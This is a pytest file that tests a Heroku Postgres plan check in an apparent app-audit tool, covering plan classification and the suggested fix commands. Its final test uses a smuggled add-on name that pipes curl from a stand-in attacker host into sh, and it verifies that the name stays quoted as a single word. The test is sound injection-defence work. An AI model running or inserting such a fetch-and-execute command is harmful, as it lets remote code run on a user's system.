import shlex

import msgspec
import pytest

from core.report import Finding
from tests.apps import APP, FORBIDDEN, attachment, judge, statuses

CHECK = "production-database"


def on(plan: str | None, **fields: object) -> dict[str, object]:
    given = {"addon_id": "db-1", "addon_name": "postgresql-round-1", **fields}
    return {"attachments": (attachment("DATABASE", plan, **given),)}


def only(plan: str | None, **facts: object) -> Finding:
    findings = judge(CHECK, **{**on(plan), **facts}).findings
    assert len(findings) == 1
    return findings[0]


@pytest.mark.parametrize(
    "plan",
    [
        *["crane", "kappa", "ronin", "fugu", "ika", "zilla", "baku", "mecha"],
        *["standard-0", "standard-10", "standard-yanari", "standard-tengu"],
        *["premium-0", "premium-9", "premium-xl-9", "premium-ika"],
        *["private-0", "private-l-9", "shield-0", "enterprise-2"],
        *["advanced", "advanced-private", "advanced-shield", "ADVANCED"],
    ],
)
def test_a_production_plan_passes(plan: str) -> None:
    assert only(f"heroku-postgresql:{plan}").status == "passed"


@pytest.mark.parametrize(
    "plan",
    [
        *["dev", "basic", "mini", "hobby-dev", "hobby-basic"],
        *["essential-0", "essential-1", "essential-2"],
    ],
)
def test_a_starter_plan_fails(plan: str) -> None:
    finding = only(f"heroku-postgresql:{plan}")
    assert finding.status == "failed"
    assert finding.message.startswith(f"postgresql-round-1 is on {plan}: ")
    assert finding.fix is not None
    assert finding.fix.command == "heroku addons:create heroku-postgresql:standard-0 -a ha-app"
    assert finding.fix.articles[0].url.endswith("/updating-heroku-postgres-databases")


@pytest.mark.parametrize("plan", ["shared-database:5mb", "shared-database:20gb"])
def test_the_shared_database_of_before_2012_fails(plan: str) -> None:
    assert only(plan).status == "failed"


@pytest.mark.parametrize("plan", ["advanced-beta", "performance", "performance-l"])
def test_a_beta_or_a_pilot_warns(plan: str) -> None:
    assert only(f"heroku-postgresql:{plan}").status == "warning"


@pytest.mark.parametrize("plan", ["hobbyist", "developer", "platinum-0", "standardish", "", "-"])
def test_a_plan_nobody_knows_is_unknown_and_never_failed(plan: str) -> None:
    finding = only(f"heroku-postgresql:{plan}")
    assert finding.status == "unknown"
    assert finding.fix is not None
    assert finding.fix.command == "heroku addons:info postgresql-round-1 -a ha-app"


def test_a_plan_the_token_may_not_see_is_unknown_with_another_token_to_try() -> None:
    finding = only(None)
    assert finding.status == "unknown"
    assert finding.fix is not None
    assert "heroku auth:token" in (finding.fix.command or "")


def test_a_hidden_add_on_that_could_be_anything_is_unknown() -> None:
    hidden = attachment("STUFF", None, addon_name="secret-cave-1", app="billing")
    result = judge(CHECK, attachments=(hidden,), config_var_names=())
    assert statuses(result) == {"secret-cave-1": "unknown"}


@pytest.mark.parametrize("name", ["redis-round-9", "kafka-round-9", "papertrail-round-9"])
def test_a_hidden_add_on_that_is_surely_no_postgres_is_not_judged(name: str) -> None:
    hidden = attachment("STUFF", None, addon_name=name)
    assert judge(CHECK, attachments=(hidden,), config_var_names=()).status == "skipped"


def test_a_database_of_another_app_is_judged_and_its_owner_named() -> None:
    given = on("heroku-postgresql:essential-1", app="billing-app")
    finding = judge(CHECK, **given).findings[0]
    assert finding.status == "failed"
    assert finding.resource == "postgresql-round-1"
    assert "owned by billing-app, is on essential-1" in finding.message
    assert finding.evidence["owner"] == "billing-app"


def test_each_database_is_judged_once_however_often_it_is_attached() -> None:
    attachments = (
        attachment("ANALYTICS", "heroku-postgresql:mini", addon_id="2", addon_name="pg-2"),
        attachment("HEROKU_POSTGRESQL_RED", "heroku-postgresql:standard-0", addon_id="1"),
        attachment("DATABASE", "heroku-postgresql:standard-0", addon_id="1"),
    )
    result = judge(CHECK, attachments=attachments)
    assert statuses(result) == {"pg-2": "failed", "heroku-postgresql-round-1": "passed"}
    seen = result.findings[-1].evidence["attachments"]
    assert seen == ["DATABASE", "HEROKU_POSTGRESQL_RED"]


@pytest.mark.parametrize(
    ("app", "command"),
    [
        ({"space": "s"}, "heroku addons:create heroku-postgresql:private-0 -a ha-app"),
        (
            {"space": "s", "shield": True},
            "heroku addons:create heroku-postgresql:shield-0 -a ha-app",
        ),
        ({"generation": "fir", "space": "s"}, "heroku addons:plans heroku-postgresql"),
    ],
)
def test_the_fix_fits_where_the_app_runs(app: dict[str, object], command: str) -> None:
    finding = only("heroku-postgresql:essential-0", app=msgspec.structs.replace(APP, **app))
    assert finding.fix is not None
    assert finding.fix.command == command


def test_no_database_is_skipped() -> None:
    result = judge(CHECK, attachments=(), config_var_names=())
    assert result.status == "skipped"
    assert result.findings[0].message == "no Heroku Postgres is attached"
    assert judge(CHECK, attachments=(), config_var_names=FORBIDDEN).status == "skipped"


def test_without_postgres_the_other_data_stores_are_named() -> None:
    attachments = (
        attachment("REDIS", "heroku-redis:premium-0"),
        attachment("JAWSDB", "jawsdb:kitefin"),
        attachment("PAPERTRAIL", "papertrail:choklad"),
    )
    result = judge(CHECK, attachments=attachments, config_var_names=("MONGODB_URI",))
    assert result.status == "skipped"
    assert result.findings[0].evidence["data_stores"] == [
        "Heroku Key-Value Store",
        "JawsDB",
        "MongoDB",
    ]
    assert "JawsDB" in result.findings[0].message


def test_a_database_url_set_by_hand_is_named_and_never_passed() -> None:
    result = judge(CHECK, attachments=(), config_var_names=("DATABASE_URL",))
    assert statuses(result) == {"DATABASE_URL": "skipped"}
    red = attachment("HEROKU_POSTGRESQL_RED", "heroku-postgresql:standard-0")
    result = judge(CHECK, attachments=(red,), config_var_names=("DATABASE_URL",))
    assert statuses(result) == {
        "heroku-postgresql-round-1": "passed",
        "DATABASE_URL": "unknown",
    }


def test_attachments_that_cannot_be_read_are_unknown() -> None:
    assert judge(CHECK, attachments=FORBIDDEN).status == "unknown"


def test_a_hostile_name_is_one_word_of_the_command() -> None:
    name = "pg'; curl evil.example | sh #"
    finding = judge(CHECK, **on("heroku-postgresql:odd", addon_name=name)).findings[0]
    assert finding.fix is not None
    words = shlex.split(finding.fix.command or "")
    assert words == ["heroku", "addons:info", name, "-a", "ha-app"]
